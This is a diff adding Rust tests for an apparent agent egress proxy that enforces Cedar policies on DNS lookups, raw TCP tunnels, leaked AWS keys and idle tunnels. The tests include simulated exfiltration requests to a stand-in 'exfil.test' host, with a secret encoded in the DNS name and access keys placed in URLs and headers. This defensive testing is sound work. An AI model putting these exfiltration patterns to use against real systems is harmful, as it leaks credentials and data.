@@ -635,3 +635,290 @@ async fn tunnel_closed(warden: &Warden, find: &str, says: &str, result: &str) {
     let counted = format!(r#"warden_egress_tunnels_total{{result="{result}"}} 1"#);
     assert!(metrics.contains(&counted), "{metrics}");
 }
+
+#[tokio::test]
+async fn a_name_no_policy_allows_is_never_looked_up() {
+    let http = Origin::start(LOOPBACK, 0, None).await.unwrap();
+    let port = http.addr.port();
+    // The DNS server would answer for the name that carries a secret: only a query for it
+    // would leak it.
+    let dns = Dns::start(json!({
+        "allowed.test": [["127.0.0.1"]],
+        "c2vjcmv0.exfil.test": [["127.0.0.1"]],
+    }))
+    .await
+    .unwrap();
+    let (warden, proxy) = warden(&dns, &[("egress.cedar", ALLOWLIST)]).await;
+    let token = warden.token("build-bot").await.unwrap();
+    let exfil = format!("c2vjcmv0.exfil.test:{port}");
+    let queried = |name: &str| {
+        dns.queries()
+            .iter()
+            .filter_map(|q| q["name"].as_str().map(str::to_owned))
+            .any(|n| n.contains(name))
+    };
+
+    let got = curl(proxy, Some(&token), &[&format!("http://{exfil}/")])
+        .await
+        .unwrap();
+    assert_eq!(got.status, 403, "{got:?}");
+    assert!(got.body.contains("no policy permits"), "{got:?}");
+    let tunnel = curl(proxy, Some(&token), &["-p", &format!("http://{exfil}/")])
+        .await
+        .unwrap();
+    assert!(tunnel.stderr.contains("403"), "{tunnel:?}");
+    let got = curl(
+        proxy,
+        Some(&token),
+        &[&format!("http://allowed.test:{port}/")],
+    )
+    .await
+    .unwrap();
+    assert_eq!(got.status, 200, "{got:?}");
+    assert!(queried("allowed.test"), "{:?}", dns.queries());
+    assert!(
+        !queried("exfil"),
+        "a denied name was looked up: {:?}",
+        dns.queries()
+    );
+
+    // The records: the denied name without addresses, the allowed one with its address.
+    let denied: Vec<Value> = records_for(&warden, "c2vjcmv0.exfil.test")
+        .into_iter()
+        .filter(|r| r["kind"] == "decision")
+        .collect();
+    assert_eq!(denied.len(), 2, "{denied:?}");
+    for record in &denied {
+        assert_eq!(record["decision"], "deny", "{record}");
+        assert_eq!(
+            record["detail"]["egress"]["addresses"],
+            json!([]),
+            "{record}"
+        );
+    }
+    let allowed = records_for(&warden, "allowed.test")
+        .into_iter()
+        .find(|r| r["kind"] == "decision")
+        .expect("a decision on allowed.test");
+    assert_eq!(allowed["decision"], "allow");
+    assert_eq!(
+        allowed["detail"]["egress"]["addresses"],
+        json!(["127.0.0.1"])
+    );
+    assert_eq!(allowed["detail"]["egress"]["classes"], json!(["loopback"]));
+
+    // A policy that reads the addresses needs them to judge: then the name is looked up
+    // first, and the forbid on the address decides.
+    let by_address = r#"
+@id("egress-not-to-loopback")
+@reason("not to loopback")
+forbid (
+  principal,
+  action in [Action::"egress:connect", Action::"egress:request"],
+  resource
+)
+when { context.addresses.contains(ip("127.0.0.1")) };
+"#;
+    warden.write_policy("by-address.cedar", by_address).unwrap();
+    let looked_up = async {
+        loop {
+            let got = curl(proxy, Some(&token), &[&format!("http://{exfil}/")])
+                .await
+                .unwrap();
+            assert_eq!(got.status, 403, "{got:?}");
+            if queried("exfil") {
+                return got;
+            }
+            tokio::time::sleep(Duration::from_millis(100)).await;
+        }
+    };
+    let got = tokio::time::timeout(Duration::from_secs(20), looked_up)
+        .await
+        .expect("once a policy reads context.addresses, the name is looked up");
+    assert!(
+        got.body.contains("no policy permits") || got.body.contains("not to loopback"),
+        "{got:?}"
+    );
+    assert_eq!(http.seen().len(), 1, "only allowed.test arrived");
+}
+
+#[tokio::test]
+async fn what_a_tunnel_carries_may_not_ask_for_an_approval_it_was_not_given() {
+    use std::sync::Arc;
+    use std::sync::atomic::{AtomicUsize, Ordering};
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+    // A raw TCP service on loopback that counts the bytes it receives.
+    let listener = tokio::net::TcpListener::bind((LOOPBACK, 0)).await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let received = Arc::new(AtomicUsize::new(0));
+    let counted = Arc::clone(&received);
+    tokio::spawn(async move {
+        while let Ok((mut socket, _)) = listener.accept().await {
+            let counted = Arc::clone(&counted);
+            tokio::spawn(async move {
+                let mut buf = [0u8; 1024];
+                while let Ok(n) = socket.read(&mut buf).await {
+                    if n == 0 {
+                        break;
+                    }
+                    counted.fetch_add(n, Ordering::SeqCst);
+                }
+            });
+        }
+    });
+    let dns = Dns::start(json!({"allowed.test": [["127.0.0.1"]]}))
+        .await
+        .unwrap();
+    // TLS tunnels are allowed outright; a raw TCP tunnel needs an approval.
+    let policies = r#"
+@id("egress-tls-tunnels")
+@egress("internal")
+permit (principal is Agent, action == Action::"egress:connect", resource == Host::"allowed.test")
+when { context.scheme == "connect" || context.scheme == "https" };
+
+@id("egress-raw-tcp-needs-approval")
+@egress("internal")
+@approval("required")
+@approvers("Group::\"sre\"")
+permit (principal is Agent, action == Action::"egress:connect", resource == Host::"allowed.test")
+when { context.scheme == "tcp" };
+"#;
+    let (warden, proxy) = warden(&dns, &[("egress.cedar", policies)]).await;
+    let token = warden.token("build-bot").await.unwrap();
+
+    // The CONNECT itself is allowed without an approval; its first bytes are neither TLS nor
+    // HTTP, which needs an approval the tunnel was never given: it closes, nothing passes.
+    let (mut stream, head) = open_tunnel(proxy, &format!("allowed.test:{port}"), &token)
+        .await
+        .unwrap();
+    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+    stream
+        .write_all(b"\x00\x01\x02 a binary protocol's hello")
+        .await
+        .unwrap();
+    let mut rest = Vec::new();
+    let closed = tokio::time::timeout(WAIT, stream.read_to_end(&mut rest)).await;
+    assert!(closed.is_ok(), "the tunnel is closed");
+    tunnel_closed(
+        &warden,
+        "needs an approval",
+        "needs an approval under policy egress-raw-tcp-needs-approval",
+        "egress_tunnel_denied",
+    )
+    .await;
+    assert_eq!(
+        received.load(Ordering::SeqCst),
+        0,
+        "no byte reached the service"
+    );
+}
+
+#[tokio::test]
+async fn credentials_in_a_plain_http_requests_url_or_headers_are_findings() {
+    let http = Origin::start(LOOPBACK, 0, None).await.unwrap();
+    let port = http.addr.port();
+    let dns = Dns::start(json!({"allowed.test": [["127.0.0.1"]]}))
+        .await
+        .unwrap();
+    let no_aws_keys = r#"
+@id("egress-no-aws-keys")
+@reason("an AWS key leaves")
+forbid (principal, action, resource)
+when { context.findings.contains("aws_access_key") };
+"#;
+    let (warden, proxy, token) = allowlist_and(&dns, ("no-aws.cedar", no_aws_keys)).await;
+    let key = "AKIAIOSFODNN7EXAMPLE";
+    let url = format!("http://allowed.test:{port}/");
+    // In the query (percent-encoded or not), in a header of the agent's choosing: denied.
+    for args in [
+        vec![format!("{url}keys/{key}/sendMessage")],
+        vec![format!("{url}?k={key}")],
+        vec![format!("{url}?k=%41KIAIOSFODNN7EXAMPLE")],
+        vec![url.clone(), "-H".into(), format!("X-D: {key}")],
+    ] {
+        let args: Vec<&str> = args.iter().map(String::as_str).collect();
+        let got = curl(proxy, Some(&token), &args).await.unwrap();
+        assert_eq!(got.status, 403, "{args:?}: {got:?}");
+        assert!(got.body.contains("an AWS key leaves"), "{args:?}: {got:?}");
+    }
+    // The agent's own credential to the destination is how a client signs in: not inspected.
+    let got = curl(
+        proxy,
+        Some(&token),
+        &[
+            &url,
+            "-H",
+            &format!("Authorization: AWS4-HMAC-SHA256 Credential={key}/x"),
+        ],
+    )
+    .await
+    .unwrap();
+    assert_eq!(got.status, 200, "{got:?}");
+    let denied: Vec<Value> = records_for(&warden, "allowed.test")
+        .into_iter()
+        .filter(|r| r["kind"] == "decision" && r["decision"] == "deny")
+        .collect();
+    assert_eq!(denied.len(), 4, "{denied:?}");
+    let located: Vec<String> = denied
+        .iter()
+        .flat_map(|r| r["findings"].as_array().cloned().unwrap_or_default())
+        .filter_map(|f| f["location"].as_str().map(str::to_owned))
+        .collect();
+    assert!(
+        located.iter().filter(|l| l.starts_with("url")).count() == 3
+            && located.iter().any(|l| l.starts_with("header x-d")),
+        "{located:?}"
+    );
+    let text = denied
+        .iter()
+        .map(|r| r.to_string())
+        .collect::<Vec<_>>()
+        .join("\n");
+    // Neither is the key itself recorded, nor a path a secret was found in.
+    assert!(!text.contains(key), "{text}");
+    assert!(!text.contains("sendMessage"), "{text}");
+    assert_eq!(http.seen().len(), 1, "only the signed-in request arrived");
+}
+
+#[tokio::test]
+async fn a_tunnel_that_carries_nothing_for_the_idle_timeout_is_closed() {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let listener = tokio::net::TcpListener::bind((LOOPBACK, 0)).await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    tokio::spawn(async move {
+        let mut held = Vec::new();
+        while let Ok((socket, _)) = listener.accept().await {
+            held.push(socket); // accepted, never written to
+        }
+    });
+    let dns = Dns::start(json!({"allowed.test": [["127.0.0.1"]]}))
+        .await
+        .unwrap();
+    let egress = SocketAddr::from(([127, 0, 0, 1], free_port().unwrap()));
+    let warden = WardenBuilder::with_upstream_url("http://127.0.0.1:9")
+        .without_policy("e2e-permit-all.cedar")
+        .policy("egress.cedar", ALLOWLIST)
+        .set("/egress/listen", json!(egress.to_string()))
+        .set("/egress/nameservers", json!([dns.addr.to_string()]))
+        .set("/egress/tunnel_idle_timeout", json!("1s"))
+        .start()
+        .await
+        .unwrap();
+    let token = warden.token("build-bot").await.unwrap();
+    let (mut stream, head) = open_tunnel(egress, &format!("allowed.test:{port}"), &token)
+        .await
+        .unwrap();
+    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+    stream.write_all(b"\x00 a quiet protocol").await.unwrap();
+    let mut rest = Vec::new();
+    let closed = tokio::time::timeout(WAIT, stream.read_to_end(&mut rest)).await;
+    assert!(closed.is_ok(), "the idle tunnel is closed");
+    tunnel_closed(
+        &warden,
+        "without a byte either way",
+        "closed after 1s without a byte either way (egress.tunnel_idle_timeout)",
+        "egress_tunnel_idle",
+    )
+    .await;
+}
